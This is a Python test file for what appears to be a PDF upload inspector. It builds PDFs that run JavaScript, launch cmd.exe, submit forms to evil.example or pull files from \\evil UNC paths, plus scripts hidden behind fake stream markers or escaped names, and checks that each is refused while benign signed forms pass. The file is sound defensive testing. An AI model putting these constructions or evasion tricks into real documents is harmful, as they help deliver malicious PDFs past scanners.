"""PDFs that would fetch, run or hide something, and harmless ones that look like them."""

import zlib
from collections.abc import Callable
from io import BytesIO

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, Pdf, String

from app.documents.inspection import Reason
from tests.documents import files
from tests.documents.arrange import refused


def written(change: Callable[[Pdf], None] | None = None, *, packed: bool = True) -> bytes:
    """Return a real PDF with a page and two fields, changed."""
    made = pikepdf.new()
    made.add_blank_page()
    if change:
        change(made)
    into, mode = BytesIO(), pikepdf.ObjectStreamMode
    made.save(into, object_stream_mode=mode.generate if packed else mode.disable, static_id=True)
    return into.getvalue()


def action(kind: str, **more: object) -> Dictionary:
    return Dictionary(S=Name(f"/{kind}"), **more)


def opens(what: object) -> Callable[[Pdf], None]:
    def change(made: Pdf) -> None:
        made.Root.OpenAction = made.make_indirect(what)

    return change


def on_page(**more: object) -> Callable[[Pdf], None]:
    def change(made: Pdf) -> None:
        for key, value in more.items():
            made.pages[0].obj[f"/{key}"] = value

    return change


def annotated(**more: object) -> Callable[[Pdf], None]:
    return on_page(Annots=Array([Dictionary(Type=Name.Annot, Rect=[0, 0, 9, 9], F=4, **more)]))


def external(made: Pdf) -> None:
    stream = made.make_stream(b"x")
    stream.F = String(r"\\evil\x")
    made.Root.Kept = stream


def by_detour(made: Pdf) -> None:
    made.Root.Kept = Dictionary(S=made.make_indirect(Name.Thread), F=String("x"))


def uri() -> Dictionary:
    return action("URI", URI=String("https://evil.example/"))


def acting() -> dict[str, Callable[[Pdf], None]]:
    """Return what makes a PDF act; anew, for an object belongs to one file."""
    return {
        "a script": opens(action("JavaScript", JS=String("x"))),
        "a script by its short name": annotated(A=Dictionary(JS=String("x"))),
        "another file at its opening": opens(action("GoToR", F=String(r"\\evil\s\x.pdf"))),
        "another file at a click": annotated(Subtype=Name.Link, A=action("GoToR", F=String("x.pdf"))),
        "a file in a file": annotated(Subtype=Name.Link, A=action("GoToE", T=Dictionary())),
        "a thread of another file": opens(action("Thread", F=String(r"\\evil\x"))),
        "a thread by a detour": by_detour,
        "an address at its opening": opens(uri()),
        "an address after a jump": opens(action("GoTo", Next=Array([action("GoTo", Next=uri())]))),
        "an address when a page is shown": on_page(AA=Dictionary(O=uri())),
        "a program": annotated(A=action("Launch", F=String("cmd.exe"))),
        "a form that is sent": annotated(A=action("SubmitForm", F=String("http://evil.example"))),
        "data that are taken in": annotated(A=action("ImportData", F=String("x"))),
        "a film": annotated(Subtype=Name.RichMedia),
        "an attached file": annotated(Subtype=Name.FileAttachment),
        "a link that is a script": annotated(A=action("URI", URI=String("javascript:alert(1)"))),
        "an external stream": external,
        "a page of another file": on_page(Ref=Dictionary(F=Dictionary(UF=String(r"\\evil\x.pdf")))),
        "a form with another form in it": lambda made: setattr(
            made.Root, "AcroForm", Dictionary(XFA=String("x"))
        ),
    }


@pytest.mark.parametrize("packed", [True, False])
@pytest.mark.parametrize("what", acting())
def test_a_pdf_that_acts_or_reaches_out_is_refused(what: str, packed: bool) -> None:
    assert refused(written(acting()[what], packed=packed)) is Reason.ACTIVE


SCRIPT = b"4 0 obj\n<< /S /JavaScript /JS (x) >>\nendobj\n"
HIDDEN = {
    "behind a comment that looks like a stream": b"% stream\n" + SCRIPT,
    "behind a text that looks like a stream": b"5 0 obj\n(stream\n)\nendobj\n" + SCRIPT,
    "in an object stream that nothing lists": files.object_stream(b"4 0 << /S /J#61vaScript >>"),
    "in a stream that hides what it is": files.object_stream(b"4 0 << /S /Launch >>").replace(
        b"/Type /ObjStm", b"/Type /#4fbjStm"
    ),
    "behind a wrong length": b"5 0 obj\n<< /Length 900 >>\nstream\nendstream\nendobj\n" + SCRIPT,
}


@pytest.mark.parametrize("how", HIDDEN)
def test_a_script_is_found_where_a_parser_may_not_look(how: str) -> None:
    assert refused(files.pdf(body=HIDDEN[how])) is Reason.ACTIVE


def test_a_chain_of_actions_without_an_end_is_refused() -> None:
    def round_and_round(made: Pdf) -> None:
        first = made.make_indirect(action("GoTo"))
        first.Next = Array([first, first])
        made.Root.OpenAction = first

    assert refused(written(round_and_round)) is Reason.ACTIVE


def test_a_pdf_with_a_password_is_refused() -> None:
    made, into = pikepdf.new(), BytesIO()
    made.add_blank_page()
    made.save(into, encryption=pikepdf.Encryption(owner="x", user=""))
    assert refused(into.getvalue()) is Reason.ENCRYPTED


def signed(made: Pdf) -> None:
    """Make a form with a text, a signature with its appearance, links and a jump at the opening."""
    page = made.pages[0]
    signature = Dictionary(
        Type=Name.Sig, Filter=Name("/Adobe.PPKLite"), SubFilter=Name("/ETSI.CAdES.detached"),
        Contents=String(b"\x30" * 64), ByteRange=[0, 1, 2, 3], M=String("D:20261128"), Reason=String("/JSON"),
    )  # fmt: skip
    look = made.make_stream(
        b"q 0.9 g 0 0 9 9 re f Q", BBox=[0, 0, 9, 9], Subtype=Name.Form, Type=Name.XObject
    )
    common = {"Type": Name.Annot, "Rect": [0, 0, 9, 9], "F": 132}
    fields = [
        made.make_indirect(
            Dictionary(
                FT=Name.Sig, T=String("s"), V=signature, AP=Dictionary(N=look), Subtype=Name.Widget, **common
            )
        ),
        made.make_indirect(
            Dictionary(FT=Name.Tx, T=String("n"), V=String("x"), Subtype=Name.Widget, **common)
        ),
    ]
    links = [
        Dictionary(Subtype=Name.Link, A=action("URI", URI=String("https://www.mkjfgfi.nrw/")), **common),
        Dictionary(Subtype=Name.Link, A=action("GoTo", D=Array([page.obj, Name.Fit])), **common),
        Dictionary(Subtype=Name.Text, Contents=String("Bitte prüfen"), **common),
    ]
    page.obj.Annots = Array([*fields, *links])
    page.obj.Resources = Dictionary(Font=Dictionary(F=Dictionary(Type=Name.Font, Subtype=Name.Type1)))
    made.Root.AcroForm = Dictionary(Fields=Array(fields), SigFlags=3, DA=String("/Helv 0 Tf 0 g"))
    made.Root.OpenAction = Array([page.obj, Name.XYZ, None, None, 1])
    made.Root.URI = Dictionary(Base=String("https://www.mkjfgfi.nrw/"))


@pytest.mark.parametrize("packed", [True, False])
def test_a_signed_form_with_links_and_notes_is_kept(packed: bool) -> None:
    assert refused(written(signed, packed=packed)) is None
    assert refused(written(opens(action("GoTo", D=String("chapter"))), packed=packed)) is None


def test_pictures_and_words_packed_by_chance_are_kept() -> None:
    def change(made: Pdf) -> None:
        words = b"\n".join(b"%d %d Td (%d /JS) Tj" % (each, each * 3, each) for each in range(20_000))
        made.pages[0].obj.Contents = made.make_stream(zlib.compress(words), Filter=Name.FlateDecode)

    assert refused(written(change)) is None
